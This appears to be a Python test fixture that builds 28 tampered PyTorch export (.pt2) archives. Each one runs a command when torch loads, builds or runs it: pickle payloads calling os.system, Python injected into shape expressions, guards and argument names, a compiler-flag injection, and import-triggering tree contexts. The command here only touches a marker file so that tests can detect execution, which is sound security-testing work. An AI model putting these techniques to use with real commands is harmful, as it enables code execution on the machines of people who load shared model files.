"""Archives that run a command of their author's when torch reads, builds or runs the program in them.

Every attack changes one thing in an honest archive. The command writes a marker file, so a test can see that it ran.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from torch import Tensor, nn
from torch.export import Dim, ExportedProgram

INPUT = (torch.ones(2, 4),)


class Affine(nn.Module):
    """Uses a parameter, a buffer, a constant, a branch on the batch size, a keyword and a sub-graph."""

    def __init__(self) -> None:
        super().__init__()
        self.linear = nn.Linear(4, 3)
        self.register_buffer("shift", torch.tensor([1.0, 2.0, 3.0]))
        self.scale = torch.tensor([2.0, 0.5, 1.0])

    def forward(self, x: Tensor, *, gain: Tensor | None = None) -> Tensor:
        y: Tensor = self.linear(x) * self.scale + self.shift
        if x.shape[0] % 2 == 0:
            y = y * 2
        with torch.no_grad():
            z = torch.ones_like(y)
        return y + z if gain is None else (y + z) * gain


def honest_program() -> ExportedProgram:
    torch.manual_seed(0)
    module = Affine().eval()
    return torch.export.export(
        module, INPUT, {"gain": torch.ones(3)}, dynamic_shapes={"x": {0: Dim.DYNAMIC}, "gain": None}
    )


@dataclass
class Archive:
    """The records of an archive by name, without the folder that they stand in, and its JSON parts parsed."""

    records: dict[str, bytes]
    model: dict[str, Any]
    weights: dict[str, Any]
    constants: dict[str, Any]
    folder: str = "archive/"

    @classmethod
    def of(cls, program: ExportedProgram) -> Archive:
        buffer = io.BytesIO()
        torch.export.save(program, buffer)
        return cls.read(buffer.getvalue())

    @classmethod
    def read(cls, data: bytes) -> Archive:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            records = {name.split("/", 1)[1]: archive.read(name) for name in archive.namelist()}
        return cls(
            records,
            json.loads(records["models/model.json"]),
            json.loads(records["data/weights/model_weights_config.json"]),
            json.loads(records["data/constants/model_constants_config.json"]),
        )

    @property
    def graph(self) -> dict[str, Any]:
        graph: dict[str, Any] = self.model["graph_module"]["graph"]
        return graph

    def node(self, target: str) -> dict[str, Any]:
        return next(node for node in self.graph["nodes"] if target in node["target"])

    def write(self, path: Path, *, compression: int = zipfile.ZIP_STORED) -> Path:
        parts = {
            "models/model.json": self.model,
            "data/weights/model_weights_config.json": self.weights,
            "data/constants/model_constants_config.json": self.constants,
        }
        with zipfile.ZipFile(path, "w", compression) as archive:
            for name, data in self.records.items():
                archive.writestr(f"{self.folder}{name}", json.dumps(parts[name]) if name in parts else data)
        return path

    def rename(self, old: str, new: str) -> None:
        """Rename a value of the graph everywhere."""
        text = json.dumps(self.model).replace(json.dumps(old), json.dumps(new))
        self.model = json.loads(text)


class _Shell:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def _saved(command: str) -> bytes:
    buffer = io.BytesIO()
    torch.save({"x": _Shell(command)}, buffer)
    return buffer.getvalue()


def _call(command: str) -> str:
    """The command as a Python expression."""
    return f"__import__('os').system({command!r})"


def _call_without_quotes(command: str) -> str:
    """The same for a place that ends at quotes."""
    system, argument = (f"bytes({list(text.encode())}).decode()" for text in ("os", command))
    return f"__import__({system}).system({argument})"


def sample_inputs(archive: Archive, command: str) -> None:
    archive.records["data/sample_inputs/model.pt"] = _saved(command)


def pickled_weight(archive: Archive, command: str) -> None:
    archive.records["data/weights/weight_0"] = _saved(command)
    archive.weights["config"]["linear.weight"]["use_pickle"] = True


def pickled_constant(archive: Archive, command: str) -> None:
    archive.records["data/constants/tensor_0"] = _saved(command)
    archive.constants["config"]["scale"]["use_pickle"] = True


def opaque_constant(archive: Archive, command: str) -> None:
    archive.records["data/constants/opaque_obj_0"] = pickle.dumps(_Shell(command))
    archive.constants["config"]["other"] = {
        "path_name": "opaque_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }


def older_weights(archive: Archive, command: str) -> None:
    archive.records["data/weights/model.pt"] = _saved(command)


def older_constants(archive: Archive, command: str) -> None:
    archive.records["data/constants/model.pt"] = _saved(command)


def _older_archive(archive: Archive, **pickles: bytes) -> None:
    """The layout of torch 2.7, which torch still reads."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    records = {name: buffer.getvalue() for name in ("state_dict", "constants", "example_inputs")} | pickles
    archive.folder = ""
    archive.records = {
        "version": b"8.20",
        "serialized_exported_program.json": json.dumps(archive.model).encode(),
        **{f"serialized_{name}.pt": data for name, data in records.items()},
    }


def older_archive_weights(archive: Archive, command: str) -> None:
    _older_archive(archive, state_dict=_saved(command))


def older_archive_constants(archive: Archive, command: str) -> None:
    _older_archive(archive, constants=_saved(command))


def older_archive_inputs(archive: Archive, command: str) -> None:
    _older_archive(archive, example_inputs=_saved(command))


def _expression(command: str) -> dict[str, Any]:
    return {"as_expr": {"expr_str": _call(command), "hint": {"as_int": 2}}}


def size_of_a_tensor(archive: Archive, command: str) -> None:
    archive.graph["tensor_values"]["x"]["sizes"][0] = _expression(command)


def stride_of_a_tensor(archive: Archive, command: str) -> None:
    archive.graph["tensor_values"]["x"]["strides"][0] = _expression(command)


def _symbolic(archive: Archive, kind: str, hint: Any, command: str) -> None:
    name = f"an_{kind}"
    archive.graph[f"sym_{kind}_values"][name] = {"as_expr": {"expr_str": _call(command), "hint": hint}}
    archive.graph["nodes"].insert(
        0,
        {
            "target": "_operator.add",
            "inputs": [{"name": "a", "arg": {"as_int": 1}, "kind": 1}, {"name": "b", "arg": {"as_int": 1}, "kind": 1}],
            "outputs": [{f"as_sym_{kind}": {"as_name": name}}],
            "metadata": {},
            "name": name,
        },
    )
    archive.graph["outputs"].insert(0, {f"as_sym_{kind}": {"as_name": name}})


def symbolic_integer(archive: Archive, command: str) -> None:
    _symbolic(archive, "int", {"as_int": 2}, command)


def symbolic_boolean(archive: Archive, command: str) -> None:
    _symbolic(archive, "bool", None, command)


def symbolic_float(archive: Archive, command: str) -> None:
    _symbolic(archive, "float", {"as_float": 2.0}, command)


def guard(archive: Archive, command: str) -> None:
    archive.model["guards_code"].append(f"{_call(command)} == 0")


def guard_message(archive: Archive, command: str) -> None:
    """The guard itself is a constant; its text leaves the message in which torch quotes it."""
    archive.model["guards_code"].append(f"""'"+str({_call_without_quotes(command)})+"' != 1""")


def _without_the_last_node(archive: Archive) -> None:
    """Then ``gain`` is an input that nothing reads."""
    last = archive.graph["nodes"].pop()["outputs"][0]["as_tensor"]["name"]
    archive.graph["tensor_values"].pop(last)
    archive.rename(last, "add_1")


def name_of_an_input(archive: Archive, command: str) -> None:
    """A default in the function's definition."""
    _without_the_last_node(archive)
    for place in (archive.graph["inputs"][-1], archive.model["graph_module"]["signature"]["input_specs"][-1]):
        text = json.dumps(place).replace('"gain"', json.dumps(f"gain=[{_call(command)}]"))
        place |= json.loads(text)
    values = archive.graph["tensor_values"]
    values[f"gain=[{_call(command)}]"] = values.pop("gain")


def _definition(command: str) -> str:
    """A name that stands in a function's definition and again, inside a call, in its first line."""
    return f"gain=[{_call(command)}], k='''):\n    #"


def name_of_an_argument(archive: Archive, command: str) -> None:
    signature = archive.model["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"][-1] = _definition(command)


def name_of_a_keyword(archive: Archive, command: str) -> None:
    signature = archive.model["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = None
    version, tree = json.loads(signature["in_spec"])
    tree["children_spec"][1]["context"] = json.dumps([_definition(command)])
    signature["in_spec"] = json.dumps([version, tree])


def _attribute(command: str) -> str:
    """A name that leaves the quotes in which ``getattr`` gets it; torch splits it at dots."""
    return f'a", 0) or getattr(__import__("os"), "system")({command!r}) or getattr(self, "a b'


def name_of_a_parameter(archive: Archive, command: str) -> None:
    name = _attribute(command)
    for spec in archive.model["graph_module"]["signature"]["input_specs"]:
        if "parameter" in spec and spec["parameter"]["parameter_name"] == "linear.bias":
            spec["parameter"]["parameter_name"] = name
    archive.weights["config"][name] = archive.weights["config"].pop("linear.bias")


def name_of_a_keyword_of_an_operator(archive: Archive, command: str) -> None:
    node = archive.node("wrap_with_set_grad_enabled")
    node["inputs"][-1] |= {"name": f"y=[{_call(command)}], z", "kind": 2}


def name_of_a_graph(archive: Archive, command: str) -> None:
    for argument in archive.node("wrap_with_set_grad_enabled")["inputs"]:
        if "as_graph" in argument["arg"]:
            argument["arg"]["as_graph"]["name"] = _attribute(command)


def _effect(archive: Archive, target: str, *arguments: tuple[str, dict[str, Any]]) -> None:
    archive.graph["tensor_values"]["effect"] = archive.graph["tensor_values"]["linear"] | {"sizes": [], "strides": []}
    archive.graph["nodes"].append(
        {
            "target": target,
            "inputs": [{"name": name, "arg": value, "kind": 1} for name, value in arguments],
            "outputs": [{"as_tensor": {"name": "effect"}}],
            "metadata": {},
            "name": "effect",
            "is_hop_single_tensor_return": True,
        }
    )


def operator_that_writes_a_file(archive: Archive, command: str) -> None:
    _effect(archive, "torch.ops.aten.from_file.default", *_new_file(command))


def _new_file(command: str) -> tuple[tuple[str, dict[str, Any]], ...]:
    return (
        ("filename", {"as_string": command.split()[-1]}),
        ("shared", {"as_bool": True}),
        ("size", {"as_int": 4}),
    )


def operator_as_an_argument(archive: Archive, command: str) -> None:
    writes = ("", {"as_operator": "torch.ops.aten.from_file.default"})
    _effect(archive, "torch.ops.higher_order.wrap", writes, *(("", value) for _, value in _new_file(command)))


def constant_input(archive: Archive, command: str) -> None:
    """A string that is an input is quoted in a guard."""
    text = f"' or {_call(command)} or '"
    _without_the_last_node(archive)
    archive.graph["inputs"][-1] = {"as_string": text}
    archive.model["graph_module"]["signature"]["input_specs"][-1] = {
        "constant_input": {"name": "gain", "value": {"as_string": text}}
    }


def flags_of_a_compiler(archive: Archive, command: str) -> None:
    """A model compiled ahead of time, whose source torch compiles when its library is missing."""
    lists = ("cflags", "definitions", "include_dirs", "ldflags", "libraries_dirs", "libraries", "passthrough_args")
    flags: dict[str, Any] = {name: [] for name in lists}
    flags |= {"compiler": f"{command};", "use_relative_path": False, "aot_mode": True, "compile_only": True}
    source = "data/aotinductor/model/a.wrapper"
    archive.records |= {
        f"{source}.cpp": b"",
        f"{source}_metadata.json": b'{"AOTI_DEVICE_KEY": "cpu"}',
        f"{source}_compile_flags.json": json.dumps(flags).encode(),
        f"{source}_linker_flags.json": json.dumps(flags).encode(),
    }


def _tree(archive: Archive, changed: dict[str, Any]) -> None:
    signature = archive.model["graph_module"]["module_call_graph"][0]["signature"]
    signature["out_spec"] = json.dumps([1, changed])


_LEAF = {"type": None, "context": None, "children_spec": []}


def default_of_a_dictionary(archive: Archive, command: str) -> None:  # noqa: ARG001
    """A module that lies beside the recipe is imported."""
    context = {"default_factory_module": "attack_on_import", "default_factory_name": "f", "dict_context": ["a"]}
    _tree(archive, {"type": "collections.defaultdict", "context": context, "children_spec": [_LEAF]})


def enumeration_in_a_tree(archive: Archive, command: str) -> None:  # noqa: ARG001
    context = json.dumps([{"__enum__": True, "fqn": "attack_on_import:f", "name": "a"}])
    _tree(archive, {"type": "builtins.dict", "context": context, "children_spec": [_LEAF]})


ATTACKS: tuple[Callable[[Archive, str], None], ...] = (
    sample_inputs,
    pickled_weight,
    pickled_constant,
    opaque_constant,
    older_weights,
    older_constants,
    older_archive_weights,
    older_archive_constants,
    older_archive_inputs,
    size_of_a_tensor,
    stride_of_a_tensor,
    symbolic_integer,
    symbolic_boolean,
    symbolic_float,
    guard,
    guard_message,
    name_of_an_input,
    name_of_an_argument,
    name_of_a_keyword,
    name_of_a_parameter,
    name_of_a_keyword_of_an_operator,
    name_of_a_graph,
    operator_that_writes_a_file,
    operator_as_an_argument,
    flags_of_a_compiler,
    constant_input,
    default_of_a_dictionary,
    enumeration_in_a_tree,
)


def write(attack: Callable[[Archive, str], None], folder: Path) -> tuple[Path, Path]:
    """The archive of an attack, and the marker file that its command writes."""
    marker = folder / "marker"
    archive = Archive.of(honest_program())
    attack(archive, f"touch {marker}")
    (folder / "attack_on_import.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    return archive.write(folder / f"{attack.__name__}.pt2"), marker
